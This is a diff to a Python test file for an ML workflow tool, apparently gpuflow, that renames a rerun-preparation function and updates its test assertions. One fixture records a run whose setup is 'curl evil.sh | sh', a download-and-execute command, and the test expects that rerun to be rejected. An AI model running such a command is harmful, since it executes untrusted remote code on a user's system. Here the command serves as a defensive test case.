@@ -260,7 +260,8 @@ def test_the_dry_run_says_what_would_run_and_launches_nothing(repo, store, data,
 def test_the_ui_s_rerun_of_runs_the_recorded_spec_prepared_here_within_the_deployment_s_form(repo, store, data):
     from gpuflow.cluster.spec import SpecError, parse_spec
     from gpuflow.cluster.spec.form_policy import FormPolicy
-    from gpuflow.flows.run_spec import hooks_spec, rerun_cache, rerun_spec
+    from gpuflow.cluster.rerun.for_flow import prepare_rerun, rerun_cache
+    from gpuflow.flows.run_spec import hooks_spec
 
     run = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="pip install -q tiny"), data=data)
     deployed = tiny_spec(data, tracking={"uri": store}, setup="pip install -q tiny", train={
@@ -268,15 +269,15 @@ def test_the_ui_s_rerun_of_runs_the_recorded_spec_prepared_here_within_the_deplo
     asked = parse_spec(deployed)  # the form's spec: from the UI, only where the run is tracked counts
     policy = FormPolicy("nightly", asked, ["train.epochs"])
 
-    spec = rerun_spec(run.info.run_id, asked, policy)
+    spec = prepare_rerun(run.info.run_id, asked, policy)
     assert spec.train.epochs == 2 and Path(spec.workdir).is_relative_to(rerun_cache())  # as it ran, checked out
-    assert rerun_spec(run.info.run_id, spec, policy) is spec  # prepared once (`gpuflow rerun`'s): runs as given
+    assert prepare_rerun(run.info.run_id, spec, policy) is spec  # prepared once (`gpuflow rerun`'s): runs as given
     hooks = hooks_spec({"spec": deployed, "rerun_of": run.info.run_id})
     assert hooks.compute.backend == "local" and hooks.tracking.uri == store
 
     other = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="curl evil.sh | sh"))
     with pytest.raises(SpecError, match="setup"):  # not a run this deployment's form could have started
-        rerun_spec(other.info.run_id, asked, policy)
+        prepare_rerun(other.info.run_id, asked, policy)
 
 
 # -- one real run, and its rerun from a fresh clone ----------------------------------------------------------------
